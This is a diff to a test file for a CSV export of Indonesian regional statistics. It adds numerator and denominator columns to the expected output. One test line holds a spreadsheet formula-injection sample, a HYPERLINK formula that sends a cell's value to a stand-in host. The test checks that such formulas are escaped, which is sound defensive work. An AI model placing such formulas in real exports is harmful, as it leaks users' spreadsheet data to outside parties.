@@ -68,10 +68,10 @@ describeEachDatabase(
         .query({ indicator: 'poverty_rate_p0', region: '75.02', from: '2011', to: '2011' });
       const [head, line] = res.text.split('\r\n');
       expect(head).toBe(
-        '\uFEFFkode_wilayah,nama_wilayah,indikator,periode,nilai,status,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis,catatan,data_per',
+        '\uFEFFkode_wilayah,nama_wilayah,indikator,periode,nilai,pembilang,penyebut,status,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis,catatan,data_per',
       );
       expect(line).toMatch(
-        /^75\.02,Kabupaten Boalemo,poverty_rate_p0,2011,18\.75,UNVERIFIED,Tabel uji,https:\/\/mirror\.example\/tabel,Badan Pusat Statistik,https:\/\/www\.bps\.go\.id\/id\/statistics-table\/uji,2024-07-01,,\d{4}-/,
+        /^75\.02,Kabupaten Boalemo,poverty_rate_p0,2011,18\.75,,,UNVERIFIED,Tabel uji,https:\/\/mirror\.example\/tabel,Badan Pusat Statistik,https:\/\/www\.bps\.go\.id\/id\/statistics-table\/uji,2024-07-01,,\d{4}-/,
       );
       const again = await importFile(use(), {
         bytes: Buffer.from(res.text),
@@ -108,7 +108,7 @@ describeEachDatabase(
           // Source, its link, then publisher, publisher's page and release date (none given), then the note.
           `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}${sep}${sep}${sep}"'-tidak ada"${sep}`,
         );
-        expect(row2013).toContain(`${sep}0${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
+        expect(row2013).toContain(`${sep}0${sep}${sep}${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
         const again = await importFile(use(), {
           bytes: Buffer.from(res.text),
           fileName: `formula-${decimal}.csv`,
